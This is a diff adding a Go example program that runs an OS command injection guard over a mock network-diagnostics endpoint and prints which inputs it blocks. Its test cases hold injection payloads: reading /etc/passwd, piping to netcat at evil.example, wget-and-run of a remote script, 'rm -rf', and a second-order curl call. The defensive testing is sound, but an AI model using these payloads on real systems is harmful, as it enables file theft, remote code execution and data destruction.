@@ -1,0 +1,68 @@
+// The oscommand example applies the hybrid taint-inference model to OS
+// command injection — the attack class positive taint inference was
+// originally built for. A "network diagnostics" endpoint builds a shell
+// command from user input; the oscmd guard blocks every injection form
+// while letting benign lookups through.
+package main
+
+import (
+	"fmt"
+	"log"
+	"strings"
+
+	"joza/internal/nti"
+	"joza/internal/oscmd"
+)
+
+func main() {
+	if err := run(); err != nil {
+		log.Fatal(err)
+	}
+}
+
+func run() error {
+	// The program's command-building fragments (what PTI trusts).
+	guard := oscmd.New([]string{
+		"nslookup ",
+		"ping -c 3 ",
+		"-timeout=2 ",
+	})
+	fmt.Printf("trusted command fragments: %d\n\n", guard.FragmentCount())
+
+	cases := []struct {
+		label string
+		host  string
+	}{
+		{"benign lookup", "example.com"},
+		{"separator injection", "example.com; cat /etc/passwd"},
+		{"pipe exfiltration", "example.com | nc evil.example 4444"},
+		{"command substitution", "$(wget http://evil.example/x.sh -O- | sh)"},
+		{"backtick substitution", "`id`"},
+		{"background chain", "example.com & rm -rf /tmp/cache"},
+	}
+	for _, c := range cases {
+		cmd := "nslookup -timeout=2 " + c.host
+		v := guard.Check(cmd, []nti.Input{{Source: "get", Name: "host", Value: c.host}})
+		fmt.Printf("=== %s ===\n", c.label)
+		fmt.Printf("command: %q\n", cmd)
+		if v.Attack {
+			fmt.Printf("BLOCKED (detected by %s)\n", strings.Join(v.DetectedBy(), " and "))
+			for _, r := range v.Reasons() {
+				fmt.Printf("  - %s\n", r)
+			}
+		} else {
+			fmt.Println("allowed")
+		}
+		fmt.Println()
+	}
+
+	// Second-order: the payload came from storage, not this request.
+	v := guard.Check("nslookup -timeout=2 example.com; curl evil.example",
+		[]nti.Input{{Source: "get", Name: "page", Value: "diagnostics"}})
+	fmt.Printf("second-order command (inputs unrelated): NTI=%v PTI=%v hybrid=%v\n",
+		v.NTI.Attack, v.PTI.Attack, v.Attack)
+	if !v.Attack {
+		return fmt.Errorf("second-order command injection missed")
+	}
+	return nil
+}
